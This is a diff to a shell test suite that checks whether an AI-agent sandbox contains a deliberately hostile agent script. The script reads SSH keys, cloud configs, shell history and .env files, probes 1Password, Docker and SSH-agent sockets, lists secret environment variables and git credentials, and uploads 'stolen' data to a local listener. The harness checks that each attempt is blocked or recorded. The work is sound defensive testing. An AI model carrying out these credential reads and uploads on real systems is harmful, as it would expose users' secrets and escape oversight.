@@ -44,15 +44,21 @@ case $EVIL in
     echo pwned >>/proc/self/fd/7/.bash_logout 2>/dev/null
     echo LEAKED >&8 2>/dev/null ;;
   slow) exec sleep "$ESC_MARK.1" ;;
+  full) # network "full": an upload over https, through the proxy the variables name
+    python3 -c 'import sys, urllib.request
+try: urllib.request.urlopen("https://127.0.0.2:%s/upload" % sys.argv[1], data=b"stolen", timeout=10)
+except Exception as e: print("upload:", type(e).__name__)' "$UPLOAD_PORT" ;;
   home) # what of the user's home and session the agent can reach
     for f in "$HOME/.ssh/id_ed25519" "$HOME/dotfiles/ssh/id_ed25519" "$HOME/.config/doctl/config.yaml" \
       "$HOME/.local/share/fish/fish_history" "$HOME/other/.env"; do cat "$f" 2>/dev/null; done
-    for sock in "$HOME/.1password/agent.sock" "$HOME/.colima/default/docker.sock" "${SSH_AUTH_SOCK:-/nonexistent}"; do
+    for sock in "$HOME/.1password/agent.sock" "$HOME/.colima/default/docker.sock" "${SSH_AUTH_SOCK:-/nonexistent}" \
+      "$MAIN/run/dev.sock"; do
       python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); print("REACHED", sys.argv[1])' \
         "$sock" 2>/dev/null
     done
     python3 -c 'print("PYTHON-OK")' # the connects above ran
     env | grep -E '^(SSH_AUTH_SOCK|DOCKER_HOST)=' | sed 's/^/PASSED /'
+    env | grep leakmark | cut -d= -f1 | sed 's/^/SECRETVAR /' # names only: a value would be redacted
     git config --global --list 2>/dev/null | sed 's/^/GIT /'
     "$HOME/.local/bin/mytool" ;;
   cli-state) # what the user's next session of claude or codex would run or read, outside any sandbox
@@ -64,6 +70,7 @@ echo "agent $EVIL: exit $?"
 SH
 chmod +x "$work/agent.sh"
 add_runners "    evil = { command = $(lua_list "$work/agent.sh") },"
+sandbox_allow env EVIL MAIN ESC_MARK PLANT PWNED UPLOAD_PORT # the agent's orders, given by name
 sed -i 's|^  worktree = {|  worktree = {\n    setup = "sh scripts/bootstrap.sh",|' .agent/config.lua
 grep -q 'setup = "sh scripts/bootstrap.sh"' .agent/config.lua || echo "  -- (no worktree table in the config)" >&2
 "$S" task create --title "hostile" --status ready >/dev/null
@@ -139,18 +146,25 @@ printf '#!/bin/sh\necho TOOLCHAIN-OK\n' >"$HOME/.local/bin/mytool" && chmod +x "
 printf '[credential]\n\thelper = store\n[url "https://u:%s@git.example/"]\n\tinsteadOf = https://git.example/\n' \
   "$secret" >>"$HOME/.gitconfig"
 socks=()
-for sock in "$HOME/.1password/agent.sock" "$HOME/.colima/default/docker.sock"; do
+mkdir -p "$MAIN/run" # a dev server's socket in the repository (git ignores nothing of it: untracked)
+for sock in "$HOME/.1password/agent.sock" "$HOME/.colima/default/docker.sock" "$MAIN/run/dev.sock"; do
   python3 -c 'import socket,sys,time; s=socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(); time.sleep(600)' \
     "$sock" & socks+=($!)
 done
 poll 10 test -S "$HOME/.colima/default/docker.sock"
+poll 10 test -S "$MAIN/run/dev.sock"
 before=$(state)
+# Variables whose names say nothing of the secret they hold: given by no allow-list.
+leak=postgres://u:leakmark@db/x
+DATABASE_URL=$leak SENTRY_DSN=$leak SLACK_WEBHOOK=$leak GH_PAT=$leak MYSQL_PWD=$leak CI_JOB_JWT=$leak \
+  NPM_CONFIG__AUTH=$leak HTTPS_PROXY=$leak \
 EVIL=home SSH_AUTH_SOCK=$HOME/.1password/agent.sock DOCKER_HOST=unix://$HOME/.colima/default/docker.sock \
   "$S" run T-0001 --runner evil --sandbox read-only >"$work/home.out" 2>&1
 id=$(run_ids "$work/home.out" | head -n 1)
 kill "${socks[@]}" 2>/dev/null
 out=".agent/runs/$id/stdout.log"
-for what in "ssh key through a link:$secret" "a socket of the session:REACHED" "session variables:PASSED" \
+for what in "ssh key through a link:$secret" "a socket of the session or the repository:REACHED" \
+  "session variables:PASSED" "secrets in variables of other names:SECRETVAR" \
   "git credentials:GIT credential" "a token in a git URL:GIT url.https://u:" "a section of a token:insteadof"; do
   if [ ! -f "$out" ]; then hostile_case "home: ${what%%:*}" silent "the agent did not run: $(head -3 "$work/home.out")"
   elif grep -q -- "${what#*:}" "$out"; then hostile_case "home: ${what%%:*}" silent "$(grep -m1 -- "${what#*:}" "$out")"
@@ -158,11 +172,34 @@ for what in "ssh key through a link:$secret" "a socket of the session:REACHED" "
 done
 eq "home: the toolchains still work" "1 1" "$(grep -c TOOLCHAIN-OK "$out") $(grep -c PYTHON-OK "$out")"
 eq "home: git's own settings still reach the agent" 1 "$(grep -c 'GIT user.name=T' "$out")"
-eq "home: the withheld variables are recorded" "DOCKER_HOST SSH_AUTH_SOCK" \
-  "$(field ".agent/runs/$id/run.json" .os_sandbox.withheld_env.1) $(field ".agent/runs/$id/run.json" .os_sandbox.withheld_env.2)"
+eq "home: the withheld variables are recorded" "DOCKER_HOST SSH_AUTH_SOCK " "$("$S" -e '
+  for _, n in ipairs(require("sidecar.core.json").decode(io.read("a")).os_sandbox.withheld_env) do
+    if n == "DOCKER_HOST" or n == "SSH_AUTH_SOCK" then io.write(n, " ") end
+  end' <".agent/runs/$id/run.json")"
+eq "home: run show names the socket it hid" 1 "$("$S" run show "$id" | grep -c 'Sandbox:.*1 socket out of reach')"
 [ "$(state)" = "$before" ] || echo "FAIL home: the user's state changed"
+rm -rf "$MAIN/run"
 rm -rf "$HOME/.ssh" "$HOME/dotfiles" "$HOME/other" "$HOME/.1password" "$HOME/.colima" "$HOME/.config/doctl"
 git config --global --remove-section credential && git config --global --remove-section url.https://u:$secret@git.example/
+
+# --- full: network "full" records every connection that goes through its proxy -------------------
+python3 -c 'import socket, time
+s = socket.socket(); s.bind(("127.0.0.2", 0)); s.listen()
+print(s.getsockname()[1], flush=True)
+while True:
+    s.accept()[0].close()' >"$work/upload.port" &
+upload=$!
+poll 10 test -s "$work/upload.port"
+EVIL=full UPLOAD_PORT=$(cat "$work/upload.port") "$S" run T-0001 --runner evil --sandbox read-only --network full \
+  >"$work/full.out" 2>&1
+kill "$upload" 2>/dev/null
+id=$(run_ids "$work/full.out" | head -n 1)
+reached="$(field ".agent/runs/$id/run.json" .os_sandbox.connections.1.host):$(field ".agent/runs/$id/run.json" .os_sandbox.connections.1.port)"
+if [ "$reached" = "127.0.0.2:$(cat "$work/upload.port")" ] && "$S" run show "$id" | grep -q "Sandbox:.*network full.*reached $reached"; then
+  hostile_case "full network: an upload over https is recorded" detected
+else
+  hostile_case "full network: an upload over https is recorded" silent "recorded '$reached'; $(grep upload: ".agent/runs/$id/stdout.log")"
+fi
 
 # --- cli-state: what the agent writes where the CLI keeps its state -------------------------------
 # plant HOME: what the real CLIs were seen to run or read at their next start (a stdio MCP server
